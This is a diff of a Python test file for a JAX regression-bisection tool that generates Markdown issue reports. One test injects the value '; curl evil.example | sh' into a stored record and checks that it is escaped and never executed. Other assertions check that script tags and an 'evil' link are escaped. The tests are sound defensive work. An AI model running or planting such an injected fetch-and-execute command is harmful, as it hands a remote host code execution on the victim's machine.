@@ -66,8 +66,11 @@ def test_the_issue_of_a_slowdown_states_the_stored_measurement_and_both_environm
     code, out, err = cli("issue", "loopstep", "--json", store=slowdown)
     assert code == 0, err
     data = json.loads(out)
-    ratio = f"{verdict['ratio']:.3g}x"
+    ratio = f"{verdict['ratio']:.2f}x"  # one format everywhere
     assert ratio in data["title"] and f"jax {NEW}" in data["title"] and OLD in data["title"]
+    first = "\n".join(data["body"].splitlines()[:30])  # the first screen: the title and the one ratio, its interval
+    lo, hi = verdict["ci95"]
+    assert ratio in first and f"{verdict['ratio']:.2f}x \\[{lo:.2f}-{hi:.2f}\\]" in first and "measured at load" in first
     assert "within tolerance" not in data["title"]
     tokens = MarkdownIt("commonmark").enable("table").parse(data["body"])
     cells = [t.content for t in tokens if t.type == "inline"]
@@ -82,12 +85,16 @@ def test_the_issue_of_a_slowdown_states_the_stored_measurement_and_both_environm
     assert "3" in cells  # rounds
     assert "The packing machine (as the bundle recorded it)" in cells
     assert any("load" in c and "CPUs" in c for c in cells)  # the machine's conditions
-    assert pair[OLD]["run_id"] in data["body"] and pair[NEW]["run_id"] in data["body"]  # which replay, said
+    # which replay is reported, and how to choose another, is the reporter's: on the terminal, not in the body
+    assert pair[OLD]["run_id"] not in data["body"] and pair[NEW]["run_id"] not in data["body"]
+    code, printed, err = cli("issue", "loopstep", store=slowdown)
+    assert code == 0 and pair[OLD]["run_id"] in printed.split("\n\n", 1)[0], err
     fences = [t for t in tokens if t.type == "fence" and t.info == "python"]
     assert any("lax.fori_loop" in t.content and "def make" in t.content for t in fences)  # the program's source
     html = MarkdownIt("commonmark").enable("table").render(data["body"])
     assert "<script" not in html and 'href="http://evil' not in html and "alert(1)" in html  # escaped, kept
-    assert "attached" not in data["body"] and "reprobundle export loopstep@1" in data["body"]
+    # the body reads as the maintainer sees it, the zip attached; making it is the reporter's to-do, on the terminal
+    assert "reprobundle export loopstep@1" not in data["body"] and "reprobundle export loopstep@1" in printed
 
 
 def test_run_chooses_the_replay_and_attach_writes_the_zip(slowdown, tmp_path):
@@ -95,7 +102,9 @@ def test_run_chooses_the_replay_and_attach_writes_the_zip(slowdown, tmp_path):
     code, out, err = cli("issue", "loopstep", "--run", alone["run_id"], "--json", store=slowdown)
     assert code == 0, err
     data = json.loads(out)
-    assert data["measured"] is None and "chosen with --run" in data["body"] and alone["run_id"] in data["body"]
+    assert data["measured"] is None and "chosen with --run" not in data["body"]
+    code, printed, err = cli("issue", "loopstep", "--run", alone["run_id"], store=slowdown)
+    assert code == 0 and "chosen with --run" in printed and alone["run_id"] in printed, err
     assert [e["label"] for e in data["run_environments"]] == [NEW]
     code, out, err = cli("issue", "loopstep", "--run", "nosuchrun", store=slowdown)
     assert code != 0 and "--run" in err and "Traceback" not in err
@@ -121,3 +130,188 @@ def test_the_investigation_report_escapes_what_it_was_given():
     assert "<img" not in markdown and "<script>" not in markdown and "\\| \\*bold\\*" in markdown
     assert "````bash" in markdown  # a fence longer than the command's own backticks
     assert "<img" not in page and "&lt;img" in page and "<script>" not in page
+
+
+# ------------------------------------------------------------------------------------------------ the first screen
+# of a stored investigation: threefry became partitionable by default in jax 0.5.0 (a lowering change)
+
+PROGRAMS = __import__("pathlib").Path(__file__).parent / "programs" / "retrace"
+
+
+@pytest.fixture(scope="module")
+def lowering(tmp_path_factory):
+    """A store with rng@1 and its bisection between 0.4.38 and 0.5.0 (retraced: the first bad release 0.5.0)."""
+    import quick
+
+    from reprobundle import api
+
+    store = tmp_path_factory.mktemp("lowering") / "store"
+    api.pack_script(str(PROGRAMS / "rng.py"), name="rng", store=str(store), **quick.PACK)
+    result, _ = api.bisect("rng", "0.4.38", "0.5.0", store=str(store), warmup=1, repeat=2, rounds=1)
+    assert (result.mode, result.first_bad) == ("retrace", "0.5.0")
+    return store
+
+
+def _visible(body: str) -> list:
+    """The Markdown tokens outside every <details> block (what a reader sees before expanding anything)."""
+    depth, shown = 0, []
+    for token in MarkdownIt("commonmark").enable("table").parse(body):
+        if token.type in ("html_block", "html_inline"):
+            depth += token.content.count("<details>") - token.content.count("</details>")
+            continue
+        if depth == 0:
+            shown.append(token)
+    return shown
+
+
+def _stored_values(store):
+    """The first output of the stored runs of 0.4.38 and 0.5.0 (retraced), as numpy arrays."""
+    import numpy as np
+
+    registry = Registry.open(str(store))
+    bundle = registry.resolve("rng")
+    out = {}
+    for run in registry.runs(bundle.ref.bundle_id):
+        if run["contender"]["mode"] == "retrace" and run.get("outputs"):
+            leaf = run["outputs"][0]
+            out[run["environment"]["jax"]] = np.frombuffer(registry.get_blob(leaf["blob"]), np.float32)
+    return out
+
+
+@pytest.mark.crossversion
+def test_the_first_screen_says_what_broke_against_the_last_good_release_and_no_ids(lowering):
+    code, out, err = cli("issue", "rng", "--json", store=lowering)
+    assert code == 0, err
+    data = json.loads(out)
+    body = data["body"]
+    assert data["title"] == ("`_lambda_` gives other values from jax 0.5.0 (last good 0.4.38; JAX's lowering): 64 of "
+                             "64 elements of output 0 (float32[64]) differ")
+    first = body.splitlines()[:30]
+    text = "\n".join(first)
+    assert "gives other values from jax 0.5.0" in first[0]  # the title
+    values = _stored_values(lowering)
+    expected, got = (", ".join(f"{float(x):.7g}" for x in values[v][:4]) for v in ("0.4.38", "0.5.0"))
+    assert "**Expected** (jax 0.4.38, last good), output 0" in text and expected in text
+    assert f"**Got** (jax 0.5.0): {got}" in text
+    assert "**Where:** JAX's lowering" in text and "rng.py:8" in text  # the cause as far as it is known
+    assert "**Reproducer:** `python rng-1.py` exits 1 on jax 0.5.0 and 0 on jax 0.4.38" in text
+    # nothing a maintainer does not act on before the collapsed part: no ids, no tool commands
+    answer = data["bisection"]["answer_id"]
+    ids = [answer] + [r["run_id"] for r in data["replay"]["runs"]]
+    for token in _visible(body):
+        for piece in [token.content] + [c.content for c in token.children or []]:
+            assert not any(i in piece for i in ids), piece
+            assert "reprobundle " not in piece and "asked again" not in piece, piece
+    assert not any(i in body for i in ids)  # nor anywhere in the body
+    # judged against the last good release, never "mismatch" against the packing release's reference
+    assert "jax 0.4.38 retraced: outputs as jax 0.4.38's (last good)" in body and "mismatch" not in body
+    # each list once, and no flag of another platform as a candidate in a CPU report
+    assert body.count("shift\\_right\\_logical") == 1
+    assert "jax\\_threefry\\_partitionable" in body and "xla\\_gpu" not in body
+    # the reporter's notes are on the terminal: the replay reported and the question asked again
+    code, printed, err = cli("issue", "rng", store=lowering)
+    assert code == 0 and "reprobundle bisect rng --good 0.4.38 --bad 0.5.0 --retrace" in printed, err
+    assert all(i in printed.split("\n\n", 1)[0] for i in ids[1:])
+
+
+@pytest.mark.crossversion
+def test_a_hostile_answer_records_command_reaches_neither_the_body_nor_the_terminal(lowering, tmp_path):
+    import shlex
+    import shutil
+
+    store = tmp_path / "store"
+    shutil.copytree(lowering, store)
+    registry = Registry.open(str(store))
+    bundle = registry.resolve("rng")
+    record = registry.answers(bundle.ref.bundle_id)[-1]
+    evil = "; curl evil.example | sh"
+    from reprobundle.bundle.registry import utc_now
+
+    record = {**record, "answer_id": Registry.new_run_id(), "created": utc_now(),  # the latest: the one reported
+              "command": f"reprobundle bisect rng{evil}", "answer": {**record["answer"], "good": "0.4.38" + evil}}
+    registry.put_answer(record)
+    code, out, err = cli("issue", "rng", "--json", store=store)
+    assert code == 0, err
+    body = json.loads(out)["body"]
+    assert "reprobundle bisect rng; curl" not in body  # the record's command text: never shown
+    assert "curl evil.example | sh" not in body and "curl evil.example \\| sh" in body  # its field: text, escaped
+    code, printed, err = cli("issue", "rng", store=store)
+    line = next(x for x in printed.splitlines() if x.startswith("Asked again with: "))
+    words = shlex.split(line[len("Asked again with: "):])
+    assert words[:5] == ["reprobundle", "bisect", "rng", "--good", "0.4.38" + evil]  # one quoted word
+    assert "reprobundle bisect rng; curl" not in printed
+
+
+@pytest.mark.crossversion
+def test_still_broken_on_a_newer_release_is_said_in_the_title_and_first_lines(lowering, tmp_path):
+    """The newest release replayed beside the last good one (retraced, outputs only, as the bisection judged):
+    0.5.1 still gives 0.5.0's other numbers, and the title and first lines say so."""
+    import shutil
+
+    from reprobundle.investigate.newest import check_newest, newest_release
+
+    assert newest_release(["0.4.38", "0.5.0"], "0.5.0") is None and newest_release(["0.5.1", "0.10.2"], "0.5.0") == \
+        "0.10.2"
+    store = tmp_path / "store"
+    shutil.copytree(lowering, store)
+    registry = Registry.open(str(store))
+    bundle = registry.resolve("rng")
+    answer = registry.answers(bundle.ref.bundle_id)[-1]
+    assert check_newest("rng", "no-such-answer", store=str(store)) is None
+    found = check_newest("rng", answer["answer_id"], store=str(store), newest="0.5.1")  # the investigation's step
+    assert found == {"release": "0.5.1", "still": True, "text": "still broken on jax 0.5.1 (the newest): 64 of 64 "
+                                                                "elements of output 0 differ"}
+    code, out, err = cli("issue", "rng", "--json", store=store)
+    assert code == 0, err
+    data = json.loads(out)
+    assert data["title"].endswith("from jax 0.5.0 (last good 0.4.38; JAX's lowering): 64 of 64 elements of output 0 "
+                                  "(float32[64]) differ; still on jax 0.5.1"), data["title"]
+    # the replay reported is still the bisection's probe of its first bad release, not the later one of 0.5.1
+    assert "jax 0.5.0 retraced: differs from jax 0.4.38" in data["body"] and "0.5.1 retraced" not in data["body"]
+    first = "\n".join(data["body"].splitlines()[:30])
+    assert "**Newest release:** still broken on jax 0.5.1 (the newest)" in first
+
+
+@pytest.mark.crossversion
+def test_without_the_last_good_releases_retraced_run_the_frozen_script_says_what_it_cannot_show(lowering, tmp_path):
+    """An answer of a lowering change whose runs are not here (a record copied without them): the script is the
+    frozen module's, and both it and the issue say that it cannot show a change in JAX's lowering."""
+    import shutil
+
+    from reprobundle.bundle.registry import utc_now
+
+    store = tmp_path / "store"
+    shutil.copytree(lowering, store)
+    registry = Registry.open(str(store))
+    record = registry.answers(registry.resolve("rng").ref.bundle_id)[-1]
+    registry.put_answer({**record, "answer_id": Registry.new_run_id(), "created": utc_now(), "runs": []})
+    code, out, err = cli("script", "rng", store=store)
+    assert code == 0, err
+    assert "this is the frozen module, which cannot show a lowering change" in out and "MODULE = " in out
+    code, out, err = cli("issue", "rng", "--json", store=store)
+    first = "\n".join(json.loads(out)["body"].splitlines()[:30])
+    assert "the frozen module, which cannot show a lowering change" in first, first
+
+
+@pytest.mark.crossversion
+def test_release_notes_naming_a_function_called_where_the_lowering_changed_are_quoted(lowering, tmp_path):
+    """No explanation stored: the notes of the first bad release (a JAX repository made here, CHANGELOG.md at the
+    tag jax-v0.5.0) are searched for the functions the program calls on the line whose lowering changed (rng.py:8:
+    jax.random.normal; jax.jit, on every line, left out)."""
+    import subprocess
+
+    repo = tmp_path / "jax"
+    repo.mkdir()
+    (repo / "CHANGELOG.md").write_text("# Change log\n\n## jax 0.5.0 (Jan 17, 2025)\n\n* Changes:\n"
+                                       "  * {func}`jax.random.normal` draws other numbers for the same key.\n"
+                                       "  * {func}`jax.jit` got faster.\n\n## jax 0.4.38\n\n* Older.\n")
+    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
+    for args in (["init", "-q"], ["add", "CHANGELOG.md"], ["commit", "-qm", "notes"], ["tag", "jax-v0.5.0"]):
+        subprocess.run(git + args, check=True)
+    code, out, err = cli("issue", "rng", "--jax-repo", str(repo), "--json", store=lowering)
+    assert code == 0, err
+    data = json.loads(out)
+    assert data["documented"] == ["documented in the 0.5.0 release notes (they name jax.random.normal, which the "
+                                  "program calls where its lowering changed): `jax.random.normal` draws other "
+                                  "numbers for the same key."]
+    assert "**Documented as intended:**" in "\n".join(data["body"].splitlines()[:30])
